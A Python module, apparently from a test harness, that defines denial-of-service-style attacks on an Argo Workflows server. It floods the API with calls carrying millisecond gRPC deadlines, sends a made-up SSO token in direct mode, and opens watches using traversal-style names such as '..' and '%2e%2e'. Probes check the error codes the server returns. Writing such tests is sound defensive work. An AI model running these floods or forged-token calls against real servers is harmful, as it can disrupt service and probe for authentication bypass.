"""Time that callers choose, and names that lead nowhere: neither tells anything of the Argo Server's health."""

from ..attack import Attack, Probe, Target
from ..clients import Sent, repeat


def short_deadlines(target: Target, seconds: float) -> str:
    """80 calls at a time that end after 2 to 12 milliseconds."""
    times = ["2m", "4m", "6m", "8m", "10m", "12m", "900u", "1u"]
    return _calls(target, seconds, target.known, lambda number: (f"/api/v1/workflows/{target.namespace}", {"grpc-timeout": times[number % 8]}))


def short_deadlines_of_anybody(target: Target, seconds: float) -> str:
    """The same in mode direct with a single sign-on token that anybody can write."""
    return _calls(target, seconds, "v2:made-up", lambda number: (f"/argo/direct/api/v1/workflows/{target.namespace}", {"grpc-timeout": f"{2 + number % 10}m"}))


def nameless_watches(target: Target, seconds: float) -> str:
    """Watches of one workflow whose name is empty, or none."""
    names = ["", "..", "a/b", "%2e%2e"]
    return _calls(
        target,
        seconds,
        target.known,
        lambda number: (f"/api/v1/workflow-events/{target.namespace}?listOptions.fieldSelector=metadata.name%3D{names[number % 4].replace('/', '%2F')}", {}),
        streams=True,
    )


def _calls(target: Target, seconds: float, token: str, request, streams: bool = False) -> str:
    def sent(number: int) -> Sent:
        path, headers = request(number)
        return Sent(path, headers | {"authorization": f"Bearer {token}"}, streams=streams)

    return repeat(target.port, seconds, 8, sent)


def _short(target: Target) -> Probe:
    headers = {"authorization": f"Bearer {target.known}", "grpc-timeout": "1u"}
    return Probe("GET", f"/api/v1/workflows/{target.namespace}", headers, frozenset({"DEADLINE_EXCEEDED", "TOO_MANY_CALLS"}))


def _nameless(target: Target) -> Probe:
    path = f"/api/v1/workflow-events/{target.namespace}?listOptions.fieldSelector=metadata.name%3Da%2Fb"
    return Probe("GET", path, {"authorization": f"Bearer {target.known}"}, frozenset({"REQUEST_INVALID", "TOO_MANY_CALLS"}))


ATTACKS = [
    Attack("calls with deadlines of milliseconds", "a data scientist's token", short_deadlines, _short),
    Attack("deadlines of milliseconds in mode direct", "nothing", short_deadlines_of_anybody),
    Attack("watches without a name", "a data scientist's token", nameless_watches, _nameless),
]
